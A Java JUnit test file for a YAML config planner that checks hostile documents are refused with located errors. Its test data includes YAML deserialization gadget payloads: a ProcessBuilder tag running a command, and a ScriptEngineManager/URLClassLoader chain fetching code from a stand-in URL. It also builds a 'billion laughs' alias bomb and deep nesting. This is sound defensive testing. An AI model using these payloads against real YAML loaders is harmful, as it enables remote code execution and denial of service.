package io.shiplock.core.config;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowable;

import io.shiplock.core.steps.StepCatalog;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Input meant to hurt: whatever it is, the reader answers with located problems (a 4xx at the API),
 * never another exception (a 5xx), and never constructs objects from YAML tags.
 */
class HostileInputTest {
  private final Planner planner = new Planner(StepCatalog.discover());

  private static String billionLaughs() {
    StringBuilder sb = new StringBuilder("a: &a [x, x, x, x, x, x, x, x, x]\n");
    for (char c = 'b'; c <= 'z'; c++) {
      char p = (char) (c - 1);
      sb.append(c)
          .append(": &")
          .append(c)
          .append(" [*")
          .append(p)
          .append(", *")
          .append(p)
          .append(", *")
          .append(p)
          .append("]\n");
    }
    return sb.toString();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "kind: !!java.lang.ProcessBuilder [[touch, /tmp/pwned]]\nname: x\n",
        "kind: Agent\nname: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]\n",
        "\t kind: Agent\n",
        "kind: Agent\nname: x\n? [complex, key]\n: value\n",
        "[1, 2, 3]\n",
        "just a string\n",
        "kind: Agent\nname: x\nproperties: [a, b]\n",
        "kind: Component\nname: x\nprocesses: {not: a list}\n",
        "kind: Component\nname: x\nprocesses:\n  - steps: [1, 2]\n",
        "kind: Environment\napplication: [x]\nname: {y: z}\nresources: 5\n",
        "kind: Agent\nname: \"\\u0000\\u0007\"\n",
        "kind: Agent\nname: x\n<<: {description: merged}\n",
        "%YAML 9.9\n---\nkind: Agent\n",
        "kind: Agent\nname: x\n---\n--- !!binary AAAA\n",
        "{\"kind\": \"Agent\", \"name\": \"x\", \"name\": \"y\"}",
        "kind: Agent\nname: x\ndescription: *undefined\n",
      })
  void hostileDocumentsGetLocatedProblems(String yaml) {
    assertRefusedCleanly(yaml);
  }

  @Test
  void aliasBombsAndDeepNestingAreRefused() {
    assertRefusedCleanly(billionLaughs());
    assertRefusedCleanly(
        "kind: Agent\nname: x\ndescription: " + "[".repeat(5000) + "]".repeat(5000) + "\n");
  }

  private void assertRefusedCleanly(String yaml) {
    Throwable t =
        catchThrowable(
            () -> planner.plan(List.of(new SourceFile("hostile.yaml", yaml)), List.of(), false));
    assertThat(t)
        .as("refused: %s", yaml.length() > 80 ? yaml.substring(0, 80) : yaml)
        .isInstanceOf(ConfigException.class);
    assertThat(((ConfigException) t).problems())
        .isNotEmpty()
        .allSatisfy(p -> assertThat(p.location().file()).isEqualTo("hostile.yaml"));
  }
}
